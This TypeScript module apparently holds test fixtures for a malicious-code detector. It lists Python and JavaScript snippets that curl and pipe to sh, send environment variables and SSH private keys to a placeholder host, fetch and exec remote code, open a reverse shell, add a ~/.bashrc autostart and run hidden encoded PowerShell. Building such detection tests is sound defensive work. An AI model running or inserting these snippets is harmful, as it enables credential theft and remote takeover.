/** One known-bad source: statements that do their harm when the file is imported. No text in it holds escapes. */
export interface Sample {
  readonly id: string;
  readonly text: string;
}

const URL = 'https://host.invalid/x';

export const PYTHON_SAMPLES: readonly Sample[] = [
  { id: 'command', text: `import os\nos.system("curl -s ${URL} | sh")\n` },
  {
    id: 'environment',
    text: `import os\nimport requests\nrequests.post("${URL}", json=dict(os.environ))\n`,
  },
  {
    id: 'keys',
    text: `import os\nimport requests\nrequests.post("${URL}", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())\n`,
  },
  { id: 'fetched', text: `import urllib.request\nexec(urllib.request.urlopen("${URL}").read())\n` },
  {
    id: 'shell',
    text: 'import os\nimport socket\nimport subprocess\ns = socket.socket()\ns.connect(("host.invalid", 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(["/bin/sh", "-i"])\n',
  },
  {
    id: 'autostart',
    text: 'import os\nopen(os.path.expanduser("~/.bashrc"), "a").write("python3 -m colorkit &")\n',
  },
  {
    id: 'powershell',
    text: 'import subprocess\nsubprocess.Popen("powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A")\n',
  },
];

export const SCRIPT_SAMPLES: readonly Sample[] = [
  {
    id: 'command',
    text: `const cp = require("child_process");\ncp.exec("curl -s ${URL} | sh");\n`,
  },
  {
    id: 'environment',
    text: `fetch("${URL}", { method: "POST", body: JSON.stringify(process.env) });\n`,
  },
  {
    id: 'keys',
    text: `const fs = require("fs");\nconst os = require("os");\nfetch("${URL}", { method: "POST", body: fs.readFileSync(os.homedir() + "/.ssh/id_rsa") });\n`,
  },
  {
    id: 'fetched',
    text: `fetch("${URL}").then((r) => r.text()).then((t) => eval(t));\n`,
  },
  {
    id: 'shell',
    text: 'const net = require("net");\nconst cp = require("child_process");\nconst sh = cp.spawn("/bin/sh", []);\nconst c = net.connect(4444, "host.invalid", () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });\n',
  },
  {
    id: 'autostart',
    text: 'const fs = require("fs");\nconst os = require("os");\nfs.appendFileSync(os.homedir() + "/.bashrc", "node x.js &");\n',
  },
  {
    id: 'powershell',
    text: 'const cp = require("child_process");\ncp.exec("powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A");\n',
  },
];
